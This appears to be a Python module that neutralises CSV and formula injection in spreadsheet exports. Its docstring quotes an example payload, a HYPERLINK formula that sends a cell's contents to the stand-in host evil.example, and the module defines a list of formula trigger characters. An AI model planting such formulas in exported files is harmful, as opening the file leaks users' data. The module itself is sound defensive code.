"""Export safety: text cells that a spreadsheet would read as a formula (CSV/formula injection).

A dataset or an agreement may carry text such as ``=HYPERLINK("http://evil.example/?x="&A2,"Akte")``
(a caseworker name, a municipality, a goal title). Written unchanged into a CSV or Excel file, Excel
and LibreOffice run it as a formula. The OWASP rule: a text cell beginning with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a leading single quote ``'``, so the text stays readable and
is never interpreted. Only text is touched: numbers, dates and booleans stay typed.

Every CSV and Excel writer of Zielwerk (work lists, the monitoring report, indicator tables, the
indicator downloads of the web) goes through :func:`neutralise` — directly, through
:func:`neutralise_workbook` (openpyxl) or :func:`neutralise_table` (Arrow tables before a CSV write).
"""

from __future__ import annotations

from typing import Any

#: first characters that make a spreadsheet treat a text cell as a formula (OWASP CSV injection)
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text starting with a formula trigger; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return QUOTE + value
    return value


def neutralise_row(values) -> list:
    """:func:`neutralise` applied to every value of a row (e.g. before ``csv.writer.writerow``)."""
    return [neutralise(v) for v in values]


def neutralise_workbook(wb) -> None:
    """Neutralise every text cell of every worksheet of an openpyxl workbook (not write-only) in place.

    Text cells are (re)stored as strings (``data_type = "s"``), so nothing is left typed as a formula.
    """
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if isinstance(v, str):
                    cell.value = neutralise(v)
                    cell.data_type = "s"


def neutralise_table(tbl):
    """A pyarrow table with :func:`neutralise` applied to every text column (vectorised)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    pattern = "^[" + "".join("\\" + c if c in "-+" else c for c in FORMULA_TRIGGERS) + "]"
    cols, fields = [], []
    for field, col in zip(tbl.schema, tbl.columns):
        if pa.types.is_dictionary(field.type) and pa.types.is_string(field.type.value_type):
            field, col = field.with_type(pa.string()), col.cast(pa.string())
        if pa.types.is_string(field.type) or pa.types.is_large_string(field.type):
            hit = pc.fill_null(pc.match_substring_regex(col, pattern), False)
            quoted = pc.binary_join_element_wise(pa.scalar(QUOTE, field.type), col, pa.scalar("", field.type))
            col = pc.if_else(hit, quoted, col)
        cols.append(col)
        fields.append(field)
    return pa.Table.from_arrays(cols, schema=pa.schema(fields, metadata=tbl.schema.metadata))


__all__ = ["FORMULA_TRIGGERS", "neutralise", "neutralise_row", "neutralise_table", "neutralise_workbook"]
